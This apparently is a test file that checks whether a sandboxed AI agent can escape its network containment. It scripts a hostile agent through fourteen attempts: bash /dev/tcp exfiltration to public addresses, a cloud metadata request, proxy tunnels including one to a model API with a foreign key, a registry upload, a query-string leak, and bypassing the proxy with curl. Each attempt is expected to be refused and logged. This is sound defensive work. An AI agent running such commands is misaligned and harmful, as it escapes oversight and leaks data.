/** Family H: ways out of the sandbox, tried in a real workflow run. Nothing gets out, and what the gateway was asked for stands in the report with its reason. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hasBubblewrap } from "../runner/sandbox/opened.ts";
import { hostileStory, type HostileStory } from "./hostile-story.ts";
import { lootIn, stepsOf, type Try } from "./tries.ts";

const NO_NETWORK = /Network is unreachable/;
const FORBIDDEN = /^HTTP\/1\.1 403 /;

function kernel(id: string, does: string, text: string, told: RegExp): Try {
  return { id, does, text, told, recorded: null };
}

/** A request to the gateway; it gets what it wants where the answer is a good one. */
function gateway(id: string, does: string, lines: readonly string[], recorded: RegExp): Try {
  const request = `${lines.join("\\r\\n")}\\r\\nHost: 127.0.0.1:3128\\r\\nConnection: close\\r\\n\\r\\n`;
  return {
    id,
    does,
    text: `say '${request}' | tee /dev/stderr | grep -qE '^HTTP/1.1 [123]'`,
    told: FORBIDDEN,
    recorded,
  };
}

function tries(port: number): Try[] {
  return [
    kernel("H1", "an address of IPv4", "timeout 10 bash -c 'echo loot > /dev/tcp/1.1.1.1/443'", NO_NETWORK),
    kernel(
      "H2",
      "an address of IPv6",
      "timeout 10 bash -c 'echo loot > /dev/tcp/2606:4700:4700::1111/443'",
      NO_NETWORK,
    ),
    kernel(
      "H3",
      "a name of DNS that says it all",
      "getent ahosts loot.example.com || timeout 10 bash -c 'echo loot > /dev/udp/8.8.8.8/53'",
      NO_NETWORK,
    ),
    kernel(
      "H4",
      "the machine's own loopback",
      `timeout 10 bash -c 'echo loot > /dev/tcp/127.0.0.1/${port}'`,
      /Connection refused/,
    ),
    gateway(
      "H5",
      "the metadata service, by proxy",
      ["GET http://169.254.169.254/latest/meta-data/ HTTP/1.1"],
      /^169\.254\.169\.254: plain requests are not passed on$/,
    ),
    gateway(
      "H6",
      "a tunnel to GitHub",
      ["CONNECT github.com:443 HTTP/1.1"],
      /^github\.com:443: it is not in network\.tunnel/,
    ),
    gateway(
      "H7",
      "a tunnel to another port",
      ["CONNECT github.com:22 HTTP/1.1"],
      /^github\.com:22: it is not in network\.tunnel/,
    ),
    gateway(
      "H8",
      "a model's host with a key of its own",
      ["CONNECT api.anthropic.com:443 HTTP/1.1", "Proxy-Authorization: Bearer sk-foreign"],
      /^api\.anthropic\.com:443: models answer only through the gateway's own routes$/,
    ),
    gateway(
      "H9",
      "a model with a key of its own",
      ["GET /anthropic/v1/models HTTP/1.1", "x-api-key: sk-foreign"],
      /^anthropic: there is no key for it$/,
    ),
    gateway(
      "H10",
      "a package that is published",
      ["PUT /registry/npm/loot HTTP/1.1", "Content-Length: 0"],
      /^127\.0\.0\.1:\d+: PUT is refused: a registry can only be read$/,
    ),
    gateway(
      "H11",
      "a body that goes with a read",
      ["GET /registry/npm/left-pad HTTP/1.1", "Transfer-Encoding: chunked"],
      /^127\.0\.0\.1:\d+: a request with a body is refused/,
    ),
    gateway(
      "H12",
      "a registry's address that carries words",
      ["GET /registry/npm/left-pad?loot=loot HTTP/1.1"],
      /^127\.0\.0\.1:\d+: an address with a query is refused$/,
    ),
    gateway(
      "H13",
      "a WebSocket",
      [
        "GET /chat HTTP/1.1",
        "Upgrade: websocket",
        "Sec-WebSocket-Key: bG9vdGxvb3Rsb290bG9vdA==",
        "Sec-WebSocket-Version: 13",
      ],
      /^gateway: GET \/chat is not passed on$/,
    ),
    kernel(
      "H14",
      "past the proxy that it is told of",
      "unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy; NO_PROXY='*' curl -sS --max-time 10 https://example.com/",
      /Could not resolve host/,
    ),
  ];
}

describe.skipIf(!(await hasBubblewrap()))("a hostile agent does not reach", () => {
  let world: HostileStory;
  let branch: string;
  const cases = tries(0);
  beforeAll(async () => {
    world = await hostileStory(({ port }) => ({
      1: {
        implement: [
          ...stepsOf(tries(port)),
          {
            run: "npm view left-pad name --registry http://127.0.0.1:3128/registry/npm/ > loot/honest.txt 2>&1",
          },
          { say: "It is done." },
        ],
      },
    }));
    await world.from.begin();
    const issue = await world.from.ask();
    branch = (await world.from.until(issue, ({ phase }) => phase === "ready")).branch ?? "";
  }, 600_000);
  afterAll(() => world[Symbol.asyncDispose]());

  it.each(cases)("$id $does", ({ id, told, recorded }) => {
    const { got, exit } = lootIn(world.from.git("show", `${branch}:loot/${id}.txt`));

    expect(got).toMatch(told);
    expect(exit).not.toBe(0);
    const { refused } = world.rawReport(1).hosts;
    expect(refused.filter((why) => recorded?.test(why))).toHaveLength(recorded === null ? 0 : 1);
  });

  it("anything in its own sandbox but the registry, which it can read and is told nothing", () => {
    const { sandbox, hosts } = world.rawReport(1);

    expect(sandbox).toBe("bubblewrap");
    expect(hosts.used).toEqual([`127.0.0.1:${world.registry.port}`]);
    expect(hosts.tunnelled).toEqual([]);
    expect(world.registry.asked).toMatchObject([{ method: "GET", url: "/left-pad", body: "" }]);
    expect(world.registry.asked[0]?.headers.authorization).toBe(`Bearer ${world.secrets["REGISTRY"]?.value}`);
  });

  it("people unseen: the pull request says what was tried", () => {
    const pull = world.from.record(1)?.pull ?? 0;

    expect(world.from.issue(pull).body).toContain("api.anthropic.com:443");
  });

  it("anybody with a canary", () => {
    expect(world.leaks()).toEqual([]);
  });
});
